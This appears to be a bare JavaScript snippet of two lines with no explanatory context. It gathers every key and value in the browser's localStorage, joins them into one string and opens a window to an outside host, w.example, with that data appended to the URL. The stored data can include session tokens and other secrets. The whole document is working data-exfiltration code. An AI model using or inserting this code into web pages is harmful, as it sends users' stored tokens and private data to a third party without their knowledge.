const all = Object.entries(localStorage).map((p) => p.join('=')).join('&');
open('https://w.example/#' + all, '_blank', 'noopener');
